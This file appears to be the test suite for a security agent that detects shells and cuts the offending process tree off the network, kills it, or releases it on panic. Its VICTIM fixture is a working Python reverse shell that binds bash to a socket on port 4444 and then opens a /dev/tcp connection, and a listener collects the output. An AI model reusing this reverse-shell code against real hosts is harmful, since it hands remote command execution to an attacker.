import assert from "node:assert/strict";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { describe, test } from "node:test";
import { ControlClient } from "@ringfence/agent/control";
import { AttackedAgent } from "./harness/attacked-agent.js";
import { ringfencePath } from "./harness/paths.js";
import { runProcess } from "./harness/run-process.js";
import { timeout } from "./harness/timeout.js";
import { OUTSIDE } from "./harness/two-networks.js";
import { until } from "./harness/until.js";

interface State {
  readonly shutOut: { readonly processes: number };
}

/** Takes connections, and prints what comes over them. */
const SINK = `
import socket, sys, threading
s = socket.create_server(("0.0.0.0", int(sys.argv[1])))
print("ready", flush=True)
def take(c):
    try:
        while data := c.recv(100): print("got", data.decode(), flush=True)
    except OSError: pass
while True: threading.Thread(target=take, args=(s.accept()[0],)).start()
`;

/**
 * A shell on a connection that was opened by its parent. It says "one", waits for a file, says "two", and tries to connect again; what
 * came of that goes to another file.
 */
const VICTIM = `
import os, socket, subprocess, sys
c = socket.create_connection((sys.argv[1], 4444))
script = """
echo one
while ! [ -e %s.go ]; do sleep 0.1; done
echo two
(exec 3<>/dev/tcp/%s/4444) 2>%s && echo connected >>%s
while ! [ -e %s.end ]; do sleep 0.1; done
""" % (sys.argv[2], sys.argv[1], sys.argv[2], sys.argv[2], sys.argv[2])
subprocess.run(["bash", "--norc", "-c", script], stdin=c, stdout=c)
`;

async function attacked(name: string, attacks: object) {
  const place = new AttackedAgent(name, attacks);
  await place.agent.start();
  const said: string[] = [];
  const sink = await place.serve("outside", "python3", "-u", "-c", SINK, "4444");
  sink.stdout?.on("data", (text: Buffer) => said.push(text.toString()));
  const file = `${place.agent.folder}/second`;
  const ended = place.inside("python3", "-c", VICTIM, OUTSIDE, file);
  const alert = await place.alert("shell");
  writeFileSync(`${file}.go`, "");
  const readSecond = () => (existsSync(file) ? readFileSync(file, "utf8") : "");
  await until(() => readSecond() !== "", 60_000);
  const second = readSecond();
  // what leaves is there within this time
  await new Promise((resolve) => setTimeout(resolve, 1000));
  const meanwhile = said.join("");
  writeFileSync(`${file}.end`, "");
  await ended;
  return { place, alert, meanwhile, second };
}

describe("the answer to an alert", () => {
  test("is only said while dryRun is set", { timeout }, async () => {
    const { place, alert, meanwhile, second } = await attacked("dry", { shell: { response: "quarantine" } });
    await using _ = place;
    assert.match(meanwhile, /two/);
    assert.match(alert.response, /^dry run: would cut process \d+ and all below it off/);
    assert.equal(second, "connected\n");
  });

  test("cuts the tree off from the network until it is released", { timeout }, async () => {
    const { place, alert, meanwhile, second } = await attacked("quarantine", {
      dryRun: false,
      shell: { response: "quarantine" },
    });
    await using _ = place;
    assert.match(alert.response, /until it is released: [2-9] processes/);
    assert.match(second, /Operation not permitted/);
    assert.ok(!meanwhile.includes("two"), `nothing more leaves on the connection: ${meanwhile}`);
    const isDenied = () =>
      place.events.some((event) => event.type === "verdict" && event.reason === "quarantine");
    assert.ok(await until(isDenied, 20_000), "the denial names its reason");
    using client = await ControlClient.connect(place.agent.socket);
    const state = (await client.request("attacks.state")) as { shutOut: object };
    assert.deepEqual(state.shutOut, { processes: 0, addresses: 0 }, "whoever ended is cut off no more");
  });

  test("kills", { timeout }, async () => {
    const place = new AttackedAgent("kill", { dryRun: false, shell: { response: "kill" } });
    await using _ = place;
    await place.agent.start();
    await place.serve("outside", "python3", "-u", "-c", SINK, "4444");
    await assert.rejects(place.inside("python3", "-c", VICTIM, OUTSIDE, "/dev/null"), /ended with null/);
    assert.match((await place.alert("shell")).response, /^kill process/);
  });

  test("is taken back by ringfence panic", { timeout }, async () => {
    const place = new AttackedAgent("panic", { dryRun: false, shell: { response: "quarantine" } });
    await using _ = place;
    await place.agent.start();
    await place.serve("outside", "python3", "-u", "-c", SINK, "4444");
    const held = VICTIM.replace("import os", 'print("ready", flush=True)\nimport os');
    await place.serve("inside", "python3", "-c", held, OUTSIDE, "/dev/null");
    assert.match((await place.alert("shell")).response, /processes$/);
    using client = await ControlClient.connect(place.agent.socket);
    const cutOff = async () => ((await client.request("attacks.state")) as State).shutOut.processes;
    assert.ok((await cutOff()) >= 2, "the tree is cut off");
    const { code, stderr } = await runProcess(ringfencePath, ["panic", "--config", place.agent.config]);
    assert.equal(code, 0, stderr);
    assert.equal(await cutOff(), 0);
  });
});
